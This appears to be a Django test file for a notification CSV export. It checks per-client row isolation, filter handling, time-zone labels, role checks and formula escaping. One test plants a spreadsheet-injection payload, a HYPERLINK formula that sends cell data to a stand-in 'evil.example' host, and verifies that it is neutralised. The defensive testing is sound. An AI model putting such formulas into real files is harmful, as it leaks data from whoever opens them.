"""Client staff (and support, operators) export the filtered notification list as CSV:
their own clients' rows only, formula-safe, times in the client's named time zone."""

import csv
import io

from django.utils import timezone

from tests.factories import DeliveryFactory, NotificationFactory

EXPORT = "/admin/notifications/notification/export/"


def exported(browser, query: str = "") -> list[list[str]]:
    response = browser.get(EXPORT + query)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="notifications-')
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_client_staff_export_their_notifications_with_each_medium(staff_client, two_clients):
    header, *rows = exported(staff_client)

    assert header == [
        "clientNotifRefId",
        "client",
        "appType",
        "source",
        "status",
        "created (Asia/Jakarta)",
        "sms status",
        "sms recipient",
        "email status",
        "email recipient",
        "whatsapp status",
        "whatsapp recipient",
    ]
    created = timezone.localtime(two_clients.own.created_at).strftime("%Y-%m-%d %H:%M:%S")
    assert rows == [
        [
            "REF-OWN-1",
            "8002",
            "ABC",
            "api",
            "DELIVERED",
            created,
            "DELIVERED",
            "+6281234567890",
            "SENT",
            "budi@example.co.id",
            "",
            "",
        ]
    ]


def test_another_clients_filter_in_the_url_exports_nothing_of_it(staff_client, two_clients):
    other_client = two_clients.other.client.pk

    header, *rows = exported(staff_client, f"?client={other_client}")
    _, *by_application = exported(staff_client, f"?application={two_clients.other.application_id}")
    _, *by_reference = exported(staff_client, "?q=REF-OTHER-1")

    assert header[0] == "clientNotifRefId"
    assert rows == by_application == by_reference == []


def test_the_export_is_the_filtered_list(staff_client, app_8002, two_clients):
    NotificationFactory(application=app_8002, reference="REF-FAILED", status="FAILED")

    _, *failed = exported(staff_client, "?status__exact=FAILED")
    _, *searched = exported(staff_client, "?q=REF-OWN-1")

    assert [row[0] for row in failed] == ["REF-FAILED"]
    assert [row[0] for row in searched] == ["REF-OWN-1"]


def test_a_filter_the_list_would_refuse_is_refused(staff_client, two_clients):
    assert staff_client.get(EXPORT + "?no_such_field=1").status_code == 400


def test_support_exports_every_client_each_in_its_own_time_zone(support_client, two_clients):
    two_clients.other.client.time_zone = "Asia/Jayapura"
    two_clients.other.client.save()

    header, *rows = exported(support_client, "?o=1")

    assert header[5] == "created (each client's time zone)"
    by_reference = {row[0]: row[5] for row in rows}
    assert by_reference["REF-OTHER-1"].endswith("+09:00")
    assert by_reference["REF-OWN-1"].endswith("+07:00")
    # One client chosen: its time zone is named.
    header, *_ = exported(support_client, f"?client={two_clients.other.client.pk}")
    assert header[5] == "created (Asia/Jayapura)"


def test_cells_a_spreadsheet_would_run_are_written_as_text(staff_client, app_8002):
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    notification = NotificationFactory(application=app_8002, reference=formula)
    DeliveryFactory(notification=notification, recipient="@SUM(1+1)")

    response = staff_client.get(EXPORT)
    text = b"".join(response.streaming_content).decode()

    assert '"\'=HYPERLINK(""http://evil.example/?""&A1)"' in text
    assert '"\'@SUM(1+1)"' in text


def test_the_list_page_links_to_the_export_of_its_filters(staff_client, two_clients):
    page = staff_client.get("/admin/notifications/notification/?status__exact=DELIVERED")

    assert f'href="{EXPORT}?status__exact=DELIVERED"' in page.content.decode()


def test_a_user_without_a_role_cannot_export(client, two_clients, django_user_model):
    client.force_login(django_user_model.objects.create_user("nobody", is_staff=True))

    assert client.get(EXPORT).status_code == 403
